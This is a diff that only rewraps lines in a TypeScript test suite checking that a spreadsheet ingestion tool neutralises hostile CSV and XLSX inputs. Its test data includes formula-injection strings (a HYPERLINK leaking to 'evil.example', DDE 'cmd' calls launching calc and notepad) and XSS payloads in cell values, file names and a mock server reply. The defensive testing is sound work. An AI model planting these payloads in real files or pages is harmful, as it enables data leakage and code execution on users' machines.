@@ -6,7 +6,12 @@ import { uploadsTo } from '../adversaries.js';
 import { COLUMN, ingest, quoted, runFirst, steelCsv, steelXlsx, validate, write } from '../case-inputs.js';
 
 /** Texts a spreadsheet would run: a link that leaks, a command (DDE), a function, a sum. */
-export const FORMULAS = ['=HYPERLINK("http://evil.example/?leak","click")', "+cmd|' /C calc'!A0", '@SUM(1+1)*cmd|\' /C notepad\'!A1', '-2+3+cmd|x!A0'] as const;
+export const FORMULAS = [
+  '=HYPERLINK("http://evil.example/?leak","click")',
+  "+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C notepad'!A1",
+  '-2+3+cmd|x!A0',
+] as const;
 
 /** Text that starts like a formula to a spreadsheet opening a CSV file. */
 const FORMULA_START = /^[=+\-@\t\r]/;
@@ -118,7 +123,15 @@ export const FORMULA_CASES: readonly HostileCase[] = [
   },
   {
     name: 'formulas (succeeds): an xlsx formula cell is read as its cached result, not as the formula',
-    make: (c) => write(c, 'formula.xlsx', steelXlsx(2, (cells, i) => (cells[COLUMN.formula] = { formula: 'HYPERLINK("http://evil.example/","Fe")', cached: `Fe-cached-${i}` }))),
+    make: (c) =>
+      write(
+        c,
+        'formula.xlsx',
+        steelXlsx(
+          2,
+          (cells, i) => (cells[COLUMN.formula] = { formula: 'HYPERLINK("http://evil.example/","Fe")', cached: `Fe-cached-${i}` }),
+        ),
+      ),
     args: () => ingest('formula.xlsx'),
     exit: 0,
     sent: 2,
@@ -126,7 +139,12 @@ export const FORMULA_CASES: readonly HostileCase[] = [
   },
   {
     name: 'formulas: an xlsx formula without a cached result is SOURCE_FORMULA_NO_RESULT for its row, nothing sent for it',
-    make: (c) => write(c, 'formula.xlsx', steelXlsx(2, (cells, i) => (cells[COLUMN.formula] = i === 0 ? { formula: 'HYPERLINK("http://evil.example/","Fe")' } : 'Fe-plain'))),
+    make: (c) =>
+      write(
+        c,
+        'formula.xlsx',
+        steelXlsx(2, (cells, i) => (cells[COLUMN.formula] = i === 0 ? { formula: 'HYPERLINK("http://evil.example/","Fe")' } : 'Fe-plain')),
+      ),
     args: () => ingest('formula.xlsx', '--json'),
     exit: 1,
     sent: 1,
@@ -134,7 +152,18 @@ export const FORMULA_CASES: readonly HostileCase[] = [
   },
   {
     name: 'formulas: script in cells and file names is inert text in validate --html',
-    make: (c) => write(c, '<img src=x onerror=alert(1)>.csv', steelCsv(2, (cells) => ((cells[COLUMN.formula] = quoted('</script><script>window.pwned=1</script>')), (cells[COLUMN.yieldStrength] = '<b>n/a</b>')))),
+    make: (c) =>
+      write(
+        c,
+        '<img src=x onerror=alert(1)>.csv',
+        steelCsv(
+          2,
+          (cells) => (
+            (cells[COLUMN.formula] = quoted('</script><script>window.pwned=1</script>')),
+            (cells[COLUMN.yieldStrength] = '<b>n/a</b>')
+          ),
+        ),
+      ),
     args: () => validate('<img src=x onerror=alert(1)>.csv', '--html', 'page.html'),
     exit: 1,
     check: (r) => {
@@ -149,7 +178,13 @@ export const FORMULA_CASES: readonly HostileCase[] = [
     platform: {
       adversary: uploadsTo((_req, res) => {
         res.writeHead(422, { 'content-type': 'application/json' });
-        res.end(JSON.stringify({ code: 2102, msg: '</script><script>window.pwned=1</script>', error_detail: { '<img src=x onerror=alert(1)>': 'bad' } }));
+        res.end(
+          JSON.stringify({
+            code: 2102,
+            msg: '</script><script>window.pwned=1</script>',
+            error_detail: { '<img src=x onerror=alert(1)>': 'bad' },
+          }),
+        );
       }),
     },
     make: (c) => runFirst(c, ingest('input.csv'), 1),
